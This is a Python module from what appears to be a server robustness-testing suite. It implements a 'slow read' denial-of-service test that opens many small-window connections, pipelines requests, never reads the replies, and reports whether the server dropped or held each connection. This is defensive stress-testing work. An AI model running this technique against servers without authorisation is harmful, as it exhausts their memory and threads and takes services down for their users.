"""Slow read: pipeline many requests on a tiny receive window and never read the replies.

The server's replies back up in its send buffer; one that buffers every unsent reply in
memory, or blocks a shared thread on the write, shows it in the RSS or in the canary.
"""

from __future__ import annotations

import time

from faultlab.suites.hostile._net import HELD, peer_gone, send_all
from faultlab.suites.hostile.base import Attack, AttackContext, AttackReport

__all__ = ["SLOW_READ"]


def _request(ctx: AttackContext) -> bytes:
    wire = ctx.wire
    if wire.http:
        return f"GET {wire.path} HTTP/1.1\r\nHost: {wire.host}\r\n\r\n".encode()
    if wire.kind == "h2":
        return b""
    return wire.frame(wire.body("r" * 512))


def run(ctx: AttackContext) -> AttackReport:
    report = AttackReport()
    limits = ctx.limits
    request = _request(ctx)
    if not request:
        report.counts["skipped_h2"] += 1
        return report
    with ctx.sockets() as socks:
        live = []
        for _ in range(limits.slow_read_connections):
            try:
                live.append(socks.connect(rcvbuf=4096))
            except OSError as exc:
                report.answer("refused", type(exc).__name__)
        deadline = time.monotonic() + limits.slow_read_duration
        batch = max(1, limits.slow_read_requests // 10)
        for sock in live:
            sent = 0
            while sent < limits.slow_read_requests and time.monotonic() < deadline:
                if ctx.over() or send_all(sock, request * batch, 0.1) is not None:
                    break  # the server stopped reading too: its buffers are full
                sent += batch
            report.counts["requests_sent"] += sent
        ctx.wait(max(0.0, deadline - time.monotonic()))
        for sock in live:
            report.answer(peer_gone(sock) or HELD)
    return report


SLOW_READ = Attack("slow_read", False, run, __doc__ or "")
